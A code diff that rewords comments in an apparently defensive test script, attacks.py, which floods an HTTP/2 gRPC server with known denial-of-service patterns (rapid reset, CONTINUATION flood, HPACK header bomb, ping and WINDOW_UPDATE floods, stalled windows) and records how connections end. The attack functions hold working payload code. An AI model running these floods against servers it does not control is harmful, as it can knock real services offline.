@@ -1,5 +1,5 @@
-"""What hostile HTTP/2 clients do, frame by frame. As a program: `attacks.py HOST PORT NAME SECONDS`, which repeats one
-attack and prints what became of its connections as JSON."""
+"""Attacks of hostile HTTP/2 clients, frame by frame. As a program:
+`attacks.py HOST PORT NAME SECONDS` repeats one attack and prints the results of its connections as JSON."""
 
 import json
 import socket
@@ -15,7 +15,7 @@ END_STREAM, ACK, END_HEADERS = 1, 1, 4
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 INITIAL_WINDOW_SIZE = 4
 CANCEL = 8
-#: How long one connection is attacked before the next one is opened.
+#: The duration of the attack on one connection.
 ROUND = 3.0
 
 
@@ -28,7 +28,7 @@ def _text(text):
 
 
 def head(method="Repeat"):
-    """HPACK without a table: a gRPC call."""
+    """The headers of a gRPC call in HPACK, without the dynamic table."""
     return (
         b"\x83\x86"
         + b"\x04" + _text(f"{SHOP}/{method}")
@@ -43,7 +43,7 @@ def settings(**values):
 
 
 class Connection:
-    """A connection that has said hello. Writing tells whether the server still listens."""
+    """A connection after the HTTP/2 preface. A failed write means that the server has closed it."""
 
     def __init__(self, host, port, window=65_535):
         self.socket = socket.create_connection((host, int(port)), timeout=5)
@@ -64,7 +64,7 @@ class Connection:
         return stream, frame(HEADERS, flags, stream, head(method))
 
     def drain(self):
-        """Takes what has come, without waiting. Raises when the server has closed the connection."""
+        """Reads the received bytes without waiting. Raises an error if the server has closed the connection."""
         self.socket.setblocking(False)
         try:
             while True:
@@ -89,14 +89,14 @@ class Connection:
 
 
 def note(count):
-    """A request for so many answers of 1 000 bytes."""
+    """A request for `count` responses of 1 000 bytes."""
     from shop import Note
 
     message = Note(text="b" * 1_000, count=count).SerializeToString()
     return struct.pack(">BI", 0, len(message)) + message
 
 
-# Each attack sends one burst; it is repeated until the connection is closed or its round is over.
+# Each attack sends one burst, which is repeated until the connection closes or the round ends.
 
 
 def rapid_reset(c):
@@ -144,12 +144,12 @@ def made_you_reset_by_headers_after_the_end(c):
 def continuation_flood(c):
     if c.stream < 0:
         c.send(frame(HEADERS, 0, c.next_stream(), head()))
-    # A field that a server must decode, 1 000 times in a frame.
+    # A header that a server must decode, 1 000 times in a frame.
     c.send(frame(CONTINUATION, 0, c.stream, (b"\x00" + _text("x") + _text("y")) * 1_000) * 20)
 
 
 def header_bomb(c):
-    # A large field in the table, and 3 000 references to it.
+    # A large header in the dynamic table, and 3 000 references to it.
     field = b"\x40" + _text("x") + b"\x7f" + b"\x81\x1e" + b"y" * 4_000
     c.send(frame(HEADERS, END_HEADERS, c.next_stream(), head() + field + b"\xbe" * 3_000))
 
@@ -170,7 +170,7 @@ def ping_flood(c):
 
 
 def unread_pings(c):
-    # The answers are never read, so they pile up at the server.
+    # The client never reads the responses, so that they accumulate at the server.
     c.unread = True
     c.send(frame(PING, 0, 0, b"12345678") * 2_000)
 
@@ -184,7 +184,7 @@ def unknown_frames(c):
 
 
 def stalled_windows(c):
-    # Answers are asked for and there is no window for them.
+    # Requests responses with a flow-control window of zero.
     if c.stream < 100:
         stream, opened = c.open()
         c.send(opened + frame(DATA, END_STREAM, stream, note(100_000)))
@@ -194,12 +194,12 @@ def stalled_windows(c):
 
 
 def window_update_flood(c):
-    # Room for what was never sent.
+    # WINDOW_UPDATE frames for bytes that were never sent.
     c.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 2_000)
 
 
 def window_by_bytes(c):
-    # A window that grows byte by byte: many small writes for little.
+    # A window that grows byte by byte, which causes many small writes.
     if c.stream < 20:
         stream, opened = c.open()
         c.send(opened + frame(DATA, END_STREAM, stream, note(100_000)))
@@ -252,7 +252,7 @@ def attack(host, port, name, seconds):
         except (BrokenPipeError, ConnectionResetError):
             outcome["closed"] += 1
         except TimeoutError:
-            # The server reads no more: the attacker waits, not the server.
+            # The server stopped reading: backpressure stops the attacker.
             outcome["held"] = outcome.get("held", 0) + 1
         if connection.goaway is not None:
             code = str(connection.goaway)
